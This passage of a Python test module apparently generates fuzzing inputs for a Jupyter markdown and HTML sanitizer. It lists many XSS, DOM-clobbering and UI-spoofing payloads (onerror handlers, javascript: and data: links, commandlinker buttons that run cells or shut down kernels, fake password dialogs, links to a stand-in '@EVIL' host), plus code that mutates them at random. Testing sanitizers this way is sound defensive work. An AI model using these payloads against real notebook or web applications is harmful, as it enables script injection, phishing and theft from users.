    "<model src=https://@EVIL>",
)  # fmt: skip

POSES = (  # no script, but it names, covers or drives parts of the page
    '<a data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args="{}">x</a>',
    "<button data-commandlinker-command='docmanager:new-untitled' data-commandlinker-args='{}'>x</button>",
    '<b data-commandlinker-command="kernelmenu:shutdown">x</b>', r'[x](# "\" data-commandlinker-command=\"a")',
    "<a data-path='/etc/passwd' data-line='1'>x</a>", '<a data-jupyter-id="main" href="#">x</a>',
    "<form name=jupyterapp><input name=commands></form>",
    "<form id=jupyter-config-data><input name=textContent></form>", "<a id=__pwned href=https://x.test>a</a>",
    "<img name=cookie>", "<img id=MathJax name=MathJax>",
    "<form name=body><input name=appendChild><input name=innerHTML></form>", "<iframe name=jupyterlab srcdoc=x>",
    "<embed name=getElementById>", "<object id=require name=require>",
    "<a id=config><a id=config name=baseUrl href=https://@EVIL>", "# jupyter-config-data", "# main", "# __pwned",
    "# jp-main-dock-panel", "# constructor", "<h1 id=main>a</h1>",
    "<p id='jupyter-config-data'>{\"baseUrl\":\"https://@EVIL\"}</p>", '<div id="jupyter-config-data">{}</div>',
    "<span class=jp-Dialog>x</span>", "<div class='jp-Dialog jp-mod-accept'>x</div>",
    '<div class="lm-Widget jp-OutputArea">x</div>', '<b class="MathJax">x</b>',
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>x</div>",
    '<span style="animation:x 1s">x</span>', '<p style="display:none">x</p>',
    "<center style=position:absolute>x</center>", "<font size=7 color=red>x</font>", "<blink>x</blink>",
    "<dialog open>Type your password <input></dialog>", "<input type=password name=p>", "<textarea name=x>",
    "<select><option>a</select>", "<label for=search>x</label>", "<div contenteditable>x</div>",
    "<div popover id=q>x</div><button popovertarget=q>y</button>", "<b accesskey=x tabindex=1>x</b>",
    "<b draggable=true>x</b>", "<b hidden>x</b>", "<b is=x-y slot=z part=w>x</b>", "<slot name=x>y</slot>",
    "<b itemscope itemtype=https://@EVIL>x</b>", "<b nonce=x>y</b>", "<b dir=rtl title=x lang=en>x</b>",
    "\u202eevil\u202c", "[https://bank.test](https://@EVIL)", "<a href=https://x.test target=_blank rel=opener>a</a>",
    "<a href=https://x.test download=x.exe>a</a>", '<a href="https://x.test" target="main">a</a>',
    "<area href=javascript:@RUN shape=default>",
    "<map name=m><area href=javascript:@RUN shape=default></map><img usemap=#m src=@FILE>", "<jupyter-x>x</jupyter-x>",
    "<jp-button>x</jp-button>", "<fast-button>x</fast-button>", "<mjx-container onclick=@RUN>x</mjx-container>",
    "<mjx-container class=MathJax style=position:fixed>x</mjx-container>",
    '<script type=application/vnd.jupyter.widget-view+json>{"model_id":"x"}</script>',
    r"<script type=math/tex>\href{javascript:@RUN}{x}</script>", "<script type=text/x-mathjax-config>@RUN</script>",
    "<plaintext>", "<xmp>", "<listing>", "<!--", "<textarea>", "<title>", "<style>", "<template>", "<noscript>",
    "<details open>" * 300, "> " * 200 + "<img src=x onerror=@RUN>", "[" * 300 + "a](javascript:@RUN)",
    "- " * 100 + "<img src=x onerror=@RUN>", "*" * 500 + "<img src=x onerror=@RUN>",
    "`" * 99 + "<img src=x onerror=@RUN>" + "`" * 98, "[a](" * 200 + "javascript:@RUN)",
    "<" * 300 + "img src=x onerror=@RUN>", "\\" * 301 + "<img src=x onerror=@RUN>",
    "![" * 100 + "](https://@EVIL)" * 100, "\x1b]8;;javascript:@RUN\x07x\x1b]8;;\x07",
    "\x1b[31m<img src=x onerror=@RUN>\x1b[0m", "javascript://x.test/%0a@RUN", "data:text/html,<script>@RUN</script>",
    "see javascript://%0a@RUN now", "vbscript://x/@RUN", "file:///etc/passwd:1:2", "/etc/passwd:3", "./pwned.py:1",
    "https://x.test/<script>@RUN</script>", "https://x.test/'onclick='@RUN", 'www.x.test/"><img src=x onerror=@RUN>',
)  # fmt: skip


def written() -> Iterator[tuple[str, str]]:
    """Yield name and text of each attack that was written down; texts have the marks `@RUN`, `@EVIL`, …."""
    for number, scheme in enumerate(SCHEMES):
        for form, link in enumerate(LINKS[:4]):
            yield f"scheme {number} in link {form}", link.replace("{{", "{").replace("}}", "}").replace("{}", scheme)
    for form, link in enumerate(LINKS[4:], 4):
        for number in (0, 6, 11, 23):
            text = link.replace("{{", "{").replace("}}", "}").replace("{}", SCHEMES[number])
            yield f"scheme {number} in link {form}", text
    for number, html in enumerate(HANDLERS):
        text = html.replace("{{", "{").replace("}}", "}").replace("{}", "@RUN")
        yield f"handler {number}", text
        yield f"handler {number} in prose", f"Hello *you*, {text} and `more`"
    for number, fence in enumerate(FENCES):
        for run in ("```", "~~~"):
            text = fence.replace("{{", "{").replace("}}", "}").replace("{}", run)
            yield f"fence {number} of {run}", text
    for number, source in enumerate(MERMAID):
        yield f"mermaid {number}", f"```mermaid\n{source}\n```"
    for number, formula in enumerate(MATHS):
        yield f"maths {number}", f"Let ${formula}$ be"
        yield f"maths {number} displayed", f"\\[{formula}\\]" if number % 2 else f"$${formula}$$"
    named = {"mutation": MUTATIONS, "attribute": ATTRIBUTES, "load": LOADS, "pose": POSES}
    for name, texts in named.items():
        for number, text in enumerate(texts):
            yield f"{name} {number}", text


# Generated

_PREFIXES = (
    "> ", "- ", "1. ", "  ", "    ", "\t", "# ", "* ", "10) ", "> > ", "- [ ] ", "| ", "[^1]: ", ": ", ">", "-\t",
)  # fmt: skip
_AROUND = (
    ("*", "*"), ("**", "**"), ("`", "`"), ("``", "``"), ("~~", "~~"), ("[", "](https://x.test)"),
    ("[", "](javascript:@RUN)"), ("![", "](https://@EVIL)"), ("[a](https://x.test '", "')"), ("[a](<", ">)"),
    ("[a](", ")"), ("[a]: ", "\n\n[a]"), ("$", "$"), ("$$", "$$"), (r"\(", r"\)"), (r"\[", r"\]"), ("```\n", "\n```"),
    ("```", "\n```"), ("~~~", "\n~~~"), ("```x", "\na\n```"), ("~~~x ", "\na\n~~~"),
    ("<details><summary>", "</summary></details>"), ("<details>\n\n", "\n\n</details>"), ("<b>", "</b>"),
    ('<b title="', '">x</b>'), ("<!--", "-->"), ('<a href="https://x.test/', '">a</a>'), ("|a|b|\n|-|-|\n|", "|x|"),
    ("<pre>", "</pre>"), ("<pre><code>", "</code></pre>"), ("<table><tr><td>", "</td></tr></table>"),
    ("[^1]\n\n[^1]: ", "\n"), ("<https://x.test/", ">"), ("text ", " text"), ("text\n", "\ntext"), ("\n\n", "\n\n"),
    (r"\text{", "}"), ("<sub>", "</sub>"), ("<div>\n", "\n</div>"), ('<p align="', '">x</p>'), ("a\n", "\n===\n"),
    ("```mermaid\n", "\n```"), (r"\begin{align}", r"\end{align}"),
)  # fmt: skip
_NOISE = (
    "`", "``", "```", "\n```\n", "~~~", "\n~~~\n", "\\", "\n", "\n\n", "\r", "\r\n", "\t", " ", "    ", "\x00", "\x0b",
    "\x0c", "\u2028", "\u2029", "\u200b", "\xa0", "\ufeff", "\ufffd", '"', "'", "<", ">", "/>", "&", "&lt;", "&quot;",
    "&#34;", "&#x27;", "&Tab;", "&NewLine;", "&colon;", "&#0;", "[", "]", "(", ")", "](", "][", "]: ", "!", "![",
    "<!--", "-->", "<![CDATA[", "]]>", "<?", "?>", "$", "$$", r"\(", r"\)", r"\[", r"\]", "|", "\n|-|\n", "*", "_",
    "~~", "\n> ", "\n- ", "\n1. ", "\n# ", "\n    ", "\n\t", "\n===\n", "\n---\n", "@@0@@", "{", "}", "%", "\u017f",
    "K", "\u0130", "\U0001f600", "</b>", "<b>", "</details>", "<pre>", "</pre>", "<a>", "</a>", "<p>", "x", "1", ":",
    "//", "#", "=", "javascript:", "onclick=",
)  # fmt: skip


def generated(seed: int, count: int) -> Iterator[tuple[str, str]]:
    """Yield name and text of `count` random mixtures, the same ones for the same seed."""
    source = random.Random(seed)  # noqa: S311 - mixtures, not secrets
    pieces = _pieces()
    for number in range(count):
        text = source.choice(pieces)
        if source.random() < 0.35:
            text += source.choice(("", " ", "\n", "\n\n", "`")) + source.choice(pieces)
        for _ in range(source.choice((0, 1, 1, 2, 2, 3))):
            text = _wrapped(text, source)
        for _ in range(source.choice((0, 0, 1, 1, 2, 3))):
            text = _broken(text, source)
        yield f"generated {number} of seed {seed}", text


def _pieces() -> list[str]:
    """Return what mixtures are made of; long ones and those that are alike are few."""
    pieces = [text for _, text in written() if len(text) < 200]
    return [*pieces, *(fence.replace("{}", "```").replace("{{", "{").replace("}}", "}") for fence in FENCES)]


def _wrapped(text: str, source: random.Random) -> str:
    """Put a text into a construct of markdown or HTML."""
    if source.random() < 0.3:
        prefix = source.choice(_PREFIXES)
        rest = prefix if prefix[0] in ">|" else " " * len(prefix.expandtabs(4))
        return prefix + f"\n{rest}".join(text.split("\n"))
    before, after = source.choice(_AROUND)
    return before + text + after


def _broken(text: str, source: random.Random) -> str:
    """Return a text with one fault: something put in, left out, doubled, moved or written otherwise."""
    at = source.randrange(len(text) + 1)
    match source.randrange(6):
        case 0 | 1:
            return text[:at] + source.choice(_NOISE) + text[at:]
        case 2:
            return text[:at] + text[at + source.choice((1, 1, 2, 5)) :]
        case 3:
            end = at + source.choice((1, 3, 8))
            return text[:end] + text[at:]
        case 4:
            cut = source.randrange(len(text) + 1)
            first, last = min(at, cut), max(at, cut)
            return text[last:] + source.choice(("", "\n", "\n\n")) + text[first:last] + text[:first]
        case _:
            letters = [place for place, letter in enumerate(text) if letter.isascii() and letter.isalpha()]
            if not letters or "@" in text[max(0, (place := source.choice(letters)) - 8) : place + 1]:
                return text + source.choice(_NOISE)
            letter = text[place]
            other = source.choice((letter.swapcase(), f"&#{ord(letter)};", f"&#x{ord(letter):x};", f"\\{letter}"))
            return text[:place] + other + text[place + 1 :]
